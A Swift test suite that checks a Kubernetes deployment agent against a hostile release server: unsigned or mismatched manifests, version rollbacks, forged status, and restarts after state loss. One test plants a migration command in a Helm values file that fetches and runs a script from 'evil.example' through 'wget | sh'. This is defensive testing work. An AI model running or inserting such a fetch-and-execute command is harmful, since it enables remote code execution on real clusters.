import DeploymentKinds
import FoundationEssentials
import ReleaseManifest
import ResourceClient
import ResourceModel
import TestSupport
import Testing
import WireFormats

/// The real Agent, on Kubernetes, against a server that somebody else controls. What it remembers lies in a Secret.
@Suite(.serialized) struct HostileClusterTests {
  @Test(arguments: HelmEdition.offered.suffix(1))
  func whatTheVendorDidNotSignEndsInItsReasonAndTouchesNothing(_ edition: HelmEdition) async throws {
    try await HelmEnvironment.use(edition) { environment in
      let vendor = SigningVendor()
      try await environment.startAgent(try settings(vendor, environment))
      let first = try await signed("1.0.0", 5, tag: "v1", vendor, environment)
      let honest = try await environment.deploy(first)
      #expect(honest.status?.conditions?[DeploymentCondition.artifactVerified]?.reason == "ReleaseVerified")
      let untouched = try await pods(environment)

      let second = try await signed("2.0.0", 6, tag: "v2", vendor, environment)
      let third = try await signed("3.0.0", 7, tag: "v2", vendor, environment)
      let attacks: [(reason: String, spec: DesiredDeploymentSpec)] = [
        ("ReleaseNotSigned", changed(second) { $0.manifest = nil }),
        ("ManifestMismatch", changed(second) { $0.manifest = third.manifest }),
        ("ManifestMismatch", changed(first) { $0.version = "9.9.9" }),
        ("ManifestMismatch", changed(second) { $0.imageTags = ["backend": "v1", "media": "v2"] }),
        ("SequenceTooLow", try await signed("0.9.0", 4, tag: "v2", vendor, environment)),
      ]
      for attack in attacks {
        let applied = try await environment.apply(attack.spec)
        let refused = try await environment.wait(for: attack.reason) {
          $0.status?.failure?.generation == applied.metadata.generation
        }
        #expect(refused.status?.failure?.reason == attack.reason, "\(refused.status?.failure?.message ?? "")")
        #expect(try await pods(environment) == untouched, "\(attack.reason)")
      }
      // Whoever holds the bucket holds the values in it, too.
      let path = environment.folder.file("bucket/config/values-2.0.0.yaml")
      let values = try String(contentsOfFile: path, encoding: .utf8)
      try environment.folder.write(
        "\(values)\nmigration: {enabled: true, command: [/bin/sh, -c, wget -O- evil.example | sh]}\n",
        to: "bucket/config/values-2.0.0.yaml")
      let applied = try await environment.apply(second)
      let refused = try await environment.wait(for: "the refusal of a command in the values") {
        $0.status?.failure?.generation == applied.metadata.generation
      }
      #expect(refused.status?.failure?.reason == "SettingNotAllowed")
      #expect(refused.status?.failure?.message.contains("Job wrktalk-migration") == true)
      #expect(refused.status?.failure?.message.contains("evil") == false)
      #expect(try await pods(environment) == untouched)
      try environment.folder.write(values, to: "bucket/config/values-2.0.0.yaml")
      try await environment.apply(first)
      try await environment.waitUntilReady()
      for forge: @Sendable (inout DesiredDeploymentStatus) -> Void in [
        { $0.current?.revision = 77 }, { $0.current?.manifestSha256 = String(repeating: "e", count: 64) },
        { $0.history = nil },
      ] {
        var object = try await environment.deployment()
        var status = object.status ?? DesiredDeploymentStatus()
        forge(&status)
        object.status = status
        _ = try await environment.client.replaceStatus(object)
        let current = honest.status?.current
        try await environment.wait(for: "the status to be put right") {
          $0.status?.current == current && $0.status?.history != nil
        }
        #expect(try await pods(environment) == untouched)
      }
      let deployed = try await environment.deploy(third)
      #expect(deployed.status?.current?.version == "3.0.0")
      #expect(try await environment.servedVersion(of: "backend") == "v2")
    }
  }

  /// As of an Agent whose pod was replaced: what it knew lies in the Secret, or nowhere.
  @Test(arguments: HelmEdition.offered.suffix(1))
  func anAgentGoesOnFromItsSecretAndWithoutOneRestartsNothing(_ edition: HelmEdition) async throws {
    try await HelmEnvironment.use(edition) { environment in
      let vendor = SigningVendor()
      let settings = try settings(vendor, environment)
      let agent = try await environment.startAgent(settings)
      let deployed = try await environment.deploy(try await signed("1.0.0", 1, tag: "v1", vendor, environment))
      let untouched = try await pods(environment)
      await agent.kill()
      try FileManager.default.removeItem(atPath: environment.folder.file("agent"))
      let successor = try await environment.startAgent(settings)
      let term = deployed.status?.agent?.term ?? 0
      try await environment.session.kubectl("delete", "service", "wrktalk-media")
      let corrected = try await environment.wait(for: "drift to be corrected") {
        $0.isReady && $0.status?.conditions?[DeploymentCondition.drifted]?.reason == "Corrected"
      }
      #expect((corrected.status?.agent?.term ?? 0) > term)
      #expect(corrected.status?.current?.revision == deployed.status?.current?.revision)
      await successor.kill()
      try await environment.session.kubectl("delete", "secret", "agent-state")
      try await environment.startAgent(settings)
      let before = deployed.status?.attemptStartedAt
      try await environment.wait(for: "the release to be derived anew") {
        $0.isReady && $0.status?.attemptStartedAt != before
      }
      #expect(try await pods(environment) == untouched)
    }
  }

  private func settings(_ vendor: SigningVendor, _ environment: HelmEnvironment) throws -> [String: String] {
    [
      "WRKTALK_AGENT_ALLOW_UNSIGNED": "", "WRKTALK_AGENT_STATE_SECRET": "agent-state",
      "WRKTALK_AGENT_TRUST_ROOT_FILE": try environment.folder.write(vendor.envelope(vendor.root()), to: "root.json"),
    ]
  }

  private func signed(
    _ version: String, _ sequence: Int64, tag: String, _ vendor: SigningVendor, _ environment: HelmEnvironment
  ) async throws -> DesiredDeploymentSpec {
    var spec = try await environment.spec(version, tag: tag)
    let artifact = try #require(spec.artifact)
    spec.manifest = vendor.envelope(
      try await vendor.manifest(
        version: version, sequence: sequence, tag: tag, runtime: .helm, artifact: artifact,
        at: environment.folder.file("bucket/\(artifact.path)")))
    return spec
  }

  /// The pods' identities.
  private func pods(_ environment: HelmEnvironment) async throws -> Set<String> {
    let text = try await environment.session.kubectl(
      "get", "pods", "-o", "jsonpath={range .items[*]}{.metadata.uid}{\" \"}{end}")
    return Set(text.split(separator: " ").map(String.init))
  }

  private func changed(
    _ spec: DesiredDeploymentSpec, _ change: (inout DesiredDeploymentSpec) -> Void
  ) -> DesiredDeploymentSpec {
    var spec = spec
    change(&spec)
    return spec
  }
}
